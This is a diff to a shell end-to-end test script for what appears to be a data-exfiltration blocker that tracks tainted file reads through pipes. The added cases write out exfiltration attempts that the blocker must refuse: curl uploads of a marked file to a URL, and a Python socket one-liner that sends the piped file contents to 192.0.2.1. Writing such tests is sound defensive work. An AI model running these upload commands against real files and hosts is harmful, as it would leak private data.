@@ -79,6 +79,19 @@ echo "$rec" | grep -F '"II"' >/dev/null || fail "upload.denied does not carry th
 echo "$rec" | grep -F "\"uid\":$(id -u hanako)" >/dev/null || fail "upload.denied does not name the uid: $rec"
 echo "$rec" | grep -F '"pid":' >/dev/null || fail "upload.denied does not name the process: $rec"
 denied stdin "$C -T - $URL <'$f'"
+# A reader already blocked on an empty pipe when the tainted writer writes: its read check
+# ran before it blocked, so only the read's return (fexit/pipe_read) can taint it. curl
+# connects and waits on stdin; cat reads the file and writes 3 s later. (curl's fread reads
+# again until EOF, and that second read's check sees the marked pipe: this one was refused
+# before fexit/pipe_read too.)
+denied pipe-blocked "(sleep 3; cat '$f') | $C -T - $URL"
+# A reader that reads once, and says when it waits: python3 connects, sends its header and
+# blocks in read(0) before the writer starts; its one read returns the content, then it
+# sends. Without fexit/pipe_read the listener received it.
+rm -f "$shm/blocked.ready"
+denied pipe-blocked-read "(while [ ! -e '$shm/blocked.ready' ]; do sleep 0.1; done; sleep 1; cat '$f') | python3 -c 'import os,socket,sys; s=socket.create_connection((\"192.0.2.1\", 8080), 10); s.sendall(b\"PUT /up HTTP/1.0\r\nContent-Length: 200\r\n\r\n\"); open(sys.argv[1], \"w\").close(); d=os.read(0, 65536); print(\"read\", len(d), file=sys.stderr); s.sendall(d)' '$shm/blocked.ready'"
+grep -q "^read [1-9]" "$E2E_SCRATCH/pipe-blocked-read.out" ||
+	fail "pipe-blocked-read: refused before its read returned: $(cat "$E2E_SCRATCH/pipe-blocked-read.out")"
 denied python "python3 -c 'import urllib.request; d=open(\"$f\",\"rb\").read(); urllib.request.urlopen(\"$URL\", data=d, timeout=10)'"
 denied loader "/lib64/ld-linux-x86-64.so.2 $C -T - $URL <'$f'"
 e2e_as hanako cp "$f" "$shm/copy.txt"
